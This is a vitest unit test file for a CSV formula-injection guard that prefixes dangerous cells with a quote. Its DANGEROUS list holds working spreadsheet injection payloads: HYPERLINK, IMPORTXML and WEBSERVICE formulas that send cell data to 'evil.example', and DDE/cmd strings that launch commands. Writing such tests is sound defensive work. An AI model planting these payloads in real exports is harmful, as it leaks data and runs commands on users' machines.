import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { neutralizeFormula } from './csv';

// Payloads from the OWASP CSV-injection page and common spreadsheet formula forms.
const DANGEROUS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "-cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"!A0")',
];
const HARMLESS = ['AQIM', 'Al-Qaeda', 'a=b', '2013-01-16', "'quoted", 'تنظيم القاعدة', ' =leading space', ''];

describe('formula injection guard', () => {
  it.each(DANGEROUS)('neutralises %j so a spreadsheet reads it as text', (cell) => {
    const safe = neutralizeFormula(cell);
    expect(safe).toBe(`'${cell}`);
    expect(safe).not.toMatch(/^[=+\-@\t\r]/);
  });

  it.each(HARMLESS)('leaves %j as it is', (cell) => {
    expect(neutralizeFormula(cell)).toBe(cell);
  });

  it('still round-trips through a CSV parser as one cell', () => {
    const [row] = parse(`"${neutralizeFormula('=1,2"x"').replaceAll('"', '""')}"\r\n`) as string[][];
    expect(row).toEqual(['\'=1,2"x"']);
  });
});
